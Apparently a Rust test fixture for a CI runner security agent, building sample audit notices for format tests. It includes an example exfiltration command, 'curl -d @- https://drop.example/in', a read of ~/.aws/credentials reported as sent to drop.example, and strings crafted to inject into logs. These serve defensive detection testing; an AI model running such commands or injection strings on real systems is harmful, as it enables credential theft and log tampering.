//! Notices of every kind, with their job: what the forms are tested and measured with.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

use runner_agent::event::{
    Activity, Attempt, Connection, DecidedName, DnsMessage, Event, FileAccess, Finding, NameRefusal, Process,
    ProcessKey, Program,
};
use runner_agent::identity::{Environment, JobIdentity, identify};
use runner_agent::ledger::{Checkpoint, Position, Signature};
use runner_agent::notice::{Account, AgentState, Content, JobEnded, JobStarted, Loss, Notice, ReceiptIssued};
use runner_agent::policy::{AddressClass, Mode, Protocol, Ruling, Severity, Trust, Verdict};
use runner_agent::sink::wire::Encoder;
use runner_agent::sink::wire::format::About;
use runner_agent_common::map::Counters;

/// A moment after boot at which the job began, in nanoseconds.
const BEGAN: u64 = 5_000_000_000;

/// A job on a hosted runner of GitHub's.
pub fn about() -> About {
    About {
        encoder: Encoder { boot_ns: 1_768_468_818_000_000_000, mount_namespace: 4_026_531_841 },
        job: "4d1b7c0a".into(),
        host: "runner-7.ci.example.org".to_owned(),
        identity: Some(identity()),
        trust: Some(Trust::Untrusted),
        policy: "pr-validation".to_owned(),
        policy_sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_owned(),
        mode: Mode::Audit,
    }
}

/// The same job where nobody says what it is a part of.
pub fn about_nobody() -> About {
    About { identity: None, trust: None, host: String::new(), ..about() }
}

fn identity() -> JobIdentity {
    let variables = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_SERVER_URL", "https://git.example.org"),
        ("GITHUB_REPOSITORY", "octo/app"),
        ("GITHUB_REPOSITORY_ID", "4711"),
        ("GITHUB_WORKFLOW", "ci & <checks>"),
        ("GITHUB_WORKFLOW_REF", "octo/app/.github/workflows/ci.yml@refs/heads/main"),
        ("GITHUB_RUN_ID", "1658821493"),
        ("GITHUB_RUN_ATTEMPT", "2"),
        ("GITHUB_JOB", "test"),
        ("GITHUB_SHA", "ffac537e6cbbf934b08745a378932722df287a53"),
        ("GITHUB_REF", "refs/heads/topic"),
        ("GITHUB_EVENT_NAME", "push"),
        ("GITHUB_ACTOR", "mona"),
        ("RUNNER_NAME", "runner-7"),
        ("RUNNER_ENVIRONMENT", "github-hosted"),
    ];
    let bytes: Vec<u8> = variables.iter().flat_map(|(name, value)| format!("{name}={value}\0").into_bytes()).collect();
    identify(&Environment::parse(&bytes), None).expect("an identity")
}

fn process(tgid: u32, exe: &str, argv: &[&str], parent: Option<Arc<Process>>) -> Arc<Process> {
    let argv: Vec<String> = argv.iter().map(|&argument| argument.to_owned()).collect();
    Arc::new(Process {
        key: key(tgid),
        parent_key: parent.as_ref().map(|parent| parent.key),
        depth: parent.as_ref().map_or(0, |parent| parent.depth + 1),
        parent,
        program: Program {
            exe: exe.into(),
            argv: argv.into(),
            cwd: "/home/runner/work/app".into(),
            uid: 1001,
            cgroup: 8123,
            mount_namespace: 4_026_531_841,
            ..Program::default()
        },
        exec_seq: Some(2),
    })
}

fn key(tgid: u32) -> ProcessKey {
    ProcessKey { start_ns: BEGAN + u64::from(tgid) * 1000, tgid, reserved: 0 }
}

fn bash() -> Arc<Process> {
    process(4100, "/usr/bin/bash", &["bash", "-e", "step.sh"], None)
}

fn curl() -> Arc<Process> {
    process(4102, "/usr/bin/curl", &["curl", "-d", "@-", "https://drop.example/in"], Some(bash()))
}

fn event(activity: Activity) -> Content {
    of(Some(curl()), activity)
}

fn of(process: Option<Arc<Process>>, activity: Activity) -> Content {
    Content::Event(Event { seq: 0, at_ns: 0, process, is_runners: false, activity })
}

/// A connect; by IPv6 when it was audited.
pub fn connect(verdict: Verdict, rule: Option<&str>) -> Content {
    let address: IpAddr = if verdict == Verdict::Audited {
        "2001:db8::7".parse().expect("an address")
    } else {
        "203.0.113.9".parse().expect("an address")
    };
    event(Activity::Connect(Connection {
        address,
        port: 443,
        protocol: Protocol::Tcp,
        names: vec!["files.example.org".into(), "cdn.example.org".into()],
        claimed_names: Vec::new(),
        hook: "connect4",
        socket: 77,
        outside_cgroup: false,
        ruling: Ruling { verdict, rule: rule.map(Into::into), class: AddressClass::Public, may_carry_secrets: false },
        refused_for_secret: verdict == Verdict::Blocked,
    }))
}

/// A program with these arguments.
pub fn exec(argv: &[&str], exe: &str) -> Content {
    let process = process(4103, exe, argv, Some(bash()));
    let argv = Arc::clone(&process.program.argv);
    of(Some(process), Activity::Exec { argv, argv_whole: true, outside_cgroup: false })
}

/// A secret file that was read.
pub fn file(path: &str) -> Content {
    event(Activity::File(FileAccess {
        path: path.into(),
        known_as: None,
        class: "base/aws".into(),
        title: "AWS credentials".into(),
        class_severity: Severity::High,
        read: true,
        write: false,
        owner: false,
        compat: false,
        path_truncated: false,
        inherited: false,
        verdict: Verdict::Audited,
    }))
}

/// A finding with this message and subject.
pub fn finding(message: &str, subject: &str) -> Content {
    Content::Finding(Finding {
        id: "secret-exfiltration",
        severity: Severity::Critical,
        message: message.to_owned(),
        techniques: &["EX-01", "CA-01"],
        evidence: vec![4, 7],
        fix: Some("- { host: drop.example, ports: [443], why: \"…\" }".to_owned()),
        process: Some(curl()),
        subject: subject.to_owned(),
    })
}

fn dns(answer: Option<&str>, decided: Option<DecidedName>) -> Content {
    event(Activity::Dns(DnsMessage {
        server: "192.0.2.53".parse().expect("an address"),
        name: "files.example.org".into(),
        query_type: "AAAA".to_owned(),
        answer_code: answer.map(ToOwned::to_owned),
        addresses: answer
            .filter(|code| *code == "NoError")
            .map(|_| "2001:db8::7".parse().expect("an address"))
            .into_iter()
            .collect(),
        trusted: true,
        decided,
    }))
}

fn ended() -> JobEnded {
    JobEnded {
        exit_code: Some(3),
        signal: None,
        leftovers: vec!["sleep (4110)".to_owned()],
        left_on_runner: Vec::new(),
        occurrences: BTreeMap::from([("secret-exfiltration", 2)]),
        unreadable_dns: 0,
        rules: Vec::new(),
        dropped_packets: 0,
        account: Account {
            probes: BTreeMap::from([(
                "exec",
                Counters { seen: 40, submitted: 28, ring_full: 12, ..Counters::default() },
            )]),
            received: 28,
            decoded: 28,
            notices_dropped: 1,
            ..Account::default()
        },
    }
}

fn attempt() -> Activity {
    use runner_agent_common::guard::operation;
    Activity::Attempt(Attempt {
        operation: operation::TRACE,
        target: Some(key(3999)),
        detail: 16,
        path: None,
        failed: false,
        request: None,
        verdict: Verdict::Blocked,
    })
}

/// One or more of every kind, with a name for each. The last ones hold what a hostile job would choose.
pub fn table() -> Vec<(&'static str, Notice)> {
    let refused = NameRefusal { word: "no-rule", is_quiet: false, is_tunnel: false };
    let decided = DecidedName { verdict: Verdict::Blocked, rule: None, refusal: Some(refused) };
    let hostile =
        ["sh", "-c", "a\nb\r\n<14>1 - x", "k=v|w\\", "\"]} [x@1 y=\"z\"]", "<!channel> & <@U1>", "\u{1b}[2J\u{202e}é"];
    let contents = vec![
        ("agent-ready", agent("ready")),
        (
            "job-started",
            Content::JobStarted(JobStarted {
                command: vec!["bash".to_owned(), "step.sh".to_owned()],
                policy: "pr-validation".to_owned(),
                policy_sha256: about().policy_sha256,
                policy_files: vec!["policies/pr-validation.yml".to_owned()],
                mode: Mode::Audit,
                cgroup: "/sys/fs/cgroup/runner-agent/4d1b7c0a".to_owned(),
                key: Some(KEY.to_owned()),
            }),
        ),
        ("exec", exec(&["curl", "-d", "@-", "https://drop.example/in"], "/usr/bin/curl")),
        ("file", file("/home/runner/.aws/credentials")),
        ("connect-allowed", connect(Verdict::Allowed, Some("github/api"))),
        ("connect-audited", connect(Verdict::Audited, None)),
        ("connect-blocked", connect(Verdict::Blocked, None)),
        ("dns-question", dns(None, None)),
        ("dns-answer", dns(Some("NoError"), None)),
        ("dns-refused", dns(Some("NXDomain"), Some(decided))),
        (
            "socket",
            event(Activity::Socket {
                family: 17,
                socket_type: 3,
                protocol: 768,
                verdict: Verdict::Blocked,
                killed: true,
            }),
        ),
        ("device", event(Activity::Device { major: 10, minor: 200, killed: false })),
        ("io-uring", event(Activity::IoUring)),
        ("cgroup", event(Activity::CgroupMove { by: key(4100), to: 1, inside: false, killed: true, shares: false })),
        ("attempt", event(attempt())),
        (
            "packet",
            of(
                None,
                match connect(Verdict::Blocked, None) {
                    Content::Event(Event { activity: Activity::Connect(connection), .. }) => {
                        Activity::Connect(Connection { hook: "packet", ..connection })
                    }
                    _ => Activity::IoUring,
                },
            ),
        ),
        ("finding", finding("curl sent what it read from ~/.aws/credentials to drop.example:443", "drop.example:443")),
        ("loss", Content::Loss(Loss { place: "exec", reason: "ring full", count: 12 })),
        ("exit", event(Activity::Exit { status: 3 << 8 })),
        ("exit-by-signal", event(Activity::Exit { status: 9 })),
        ("agent-tampered", agent("tampered")),
        ("job-ended", Content::JobEnded(ended())),
        ("checkpoint", Content::Checkpoint(Some(checkpoint()))),
        (
            "receipt",
            Content::Receipt(ReceiptIssued {
                sha256: "5".repeat(64),
                log_sha256: "7".repeat(64),
                lines: 23,
                head: "ab".repeat(32),
                key: KEY.to_owned(),
                mode: Mode::Audit,
                seen: 40,
                lost: 12,
                findings: 1,
            }),
        ),
        ("hostile-exec", exec(&hostile, "/tmp/a b]\n\"=|\\x")),
        ("hostile-file", file("/tmp/=|]\"\\\r\n<x>&.key")),
        ("hostile-finding", finding("<!here> & `x`\nCEF:0|a|b|\u{2028}", "a\"]b=c\\\nd")),
    ];
    contents.into_iter().enumerate().map(|(index, (name, content))| (name, notice(index as u64 + 1, content))).collect()
}

/// A public key (RFC 8032, section 7.1, test 2).
const KEY: &str = "PUAXw+hDiVqStwqnTRt+vJyYLM8uxJaMwM1V8Sr0Zgw=";

/// Its signature is of nothing in particular: forms hand it on and don't look.
fn checkpoint() -> Checkpoint {
    let signature = Signature::parse(&format!("{}==", "A".repeat(86))).expect("64 bytes in base64");
    let position = Position { job: "4d1b7c0a".into(), lines: 22, head: "ab".repeat(32), at: String::new() };
    Checkpoint { position, key: "21fe31dfa154a261".into(), signature }
}

fn agent(state: &'static str) -> Content {
    Content::Agent(match state {
        "ready" => AgentState::Ready {
            ready_ms: 207.195,
            tier: "tracing",
            kernel: "6.12.0-1-amd64".to_owned(),
            version: "0.1.0",
        },
        state => AgentState::Changed { state, detail: "the log is shorter than it was left".to_owned() },
    })
}

/// A notice of the job, so many milliseconds after its beginning as its number says.
pub fn notice(seq: u64, mut content: Content) -> Notice {
    let at_ns = BEGAN + seq * 1_000_000 + 88_588;
    if let Content::Event(event) = &mut content {
        (event.seq, event.at_ns) = (seq, at_ns);
    }
    let job = (!matches!(content, Content::Agent(_))).then(|| Arc::from("4d1b7c0a"));
    Notice { seq, at_ns, slot: 1, job, content }
}
